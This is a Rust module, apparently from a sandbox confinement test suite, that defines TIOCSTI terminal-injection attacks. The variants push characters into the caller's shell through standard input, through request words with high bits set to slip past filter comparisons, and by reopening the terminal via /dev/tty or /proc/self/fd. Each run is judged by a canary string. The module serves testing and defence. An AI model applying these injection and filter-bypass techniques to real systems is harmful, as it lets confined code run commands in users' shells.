use std::io;
use std::os::fd::{AsRawFd, OwnedFd};

use crate::attack::{Attack, Judge};
use crate::attacks::raw::{self, sys};
use crate::outcome::{Judgement, contains};
use crate::stage::Stage;
use crate::{canary, needs};

/// One way to push characters into the terminal's input; the closure gives the terminal and the request word.
macro_rules! push {
    ($name:literal, $what:literal, $request:expr, $open:expr) => {
        Attack {
            id: "Y1",
            name: $name,
            what: $what,
            prepare,
            attack: |args| push(args, $request, $open),
            needs: &[&needs::TIOCSTI],
            ..Attack::ROW
        }
    };
}

const TIOCSTI: u64 = libc::TIOCSTI;

pub(super) const STDIN: Attack =
    push!("tiocsti", "types a command into the caller's shell through standard input", TIOCSTI, || raw::fd(
        sys!(SYS_dup, 0)
    ));
pub(super) const HIGH_BIT: Attack = push!(
    "tiocsti-high-bit",
    "types a command with a request word that a 64-bit comparison takes for another one",
    TIOCSTI | 1 << 32,
    || raw::fd(sys!(SYS_dup, 1))
);
pub(super) const ALL_HIGH_BITS: Attack = push!(
    "tiocsti-sign-extended",
    "types a command with all upper bits of the request word set",
    TIOCSTI | 0xffff_ffff_0000_0000,
    || raw::fd(sys!(SYS_dup, 2))
);
pub(super) const DEV_TTY: Attack = push!(
    "tiocsti-dev-tty",
    "types a command through /dev/tty, though no descriptor of the terminal was given",
    TIOCSTI,
    || raw::openat(libc::AT_FDCWD, "/dev/tty", libc::O_RDWR)
);
pub(super) const PROC_FD: Attack = push!(
    "tiocsti-reopened",
    "types a command after opening the terminal again through /proc/self/fd",
    TIOCSTI,
    || raw::openat(libc::AT_FDCWD, "/proc/self/fd/0", libc::O_RDWR)
);

fn prepare(stage: &mut Stage) -> io::Result<Judge> {
    let canary = canary::fresh()?;
    stage.terminal = true;
    stage.arg(&canary);
    Ok(Box::new(move |outcome| {
        let typed = contains(&outcome.shell, format!("typed {canary}").as_bytes());
        Ok(Judgement::escaped_if(typed, "the caller's shell would run what the box typed"))
    }))
}

fn push(args: &[String], request: u64, open: fn() -> io::Result<OwnedFd>) -> io::Result<()> {
    let terminal = open()?;
    for byte in raw::text(args, 0)?.bytes().chain(*b"\n") {
        sys!(SYS_ioctl, terminal.as_raw_fd(), request, &raw const byte)?;
    }
    Ok(())
}
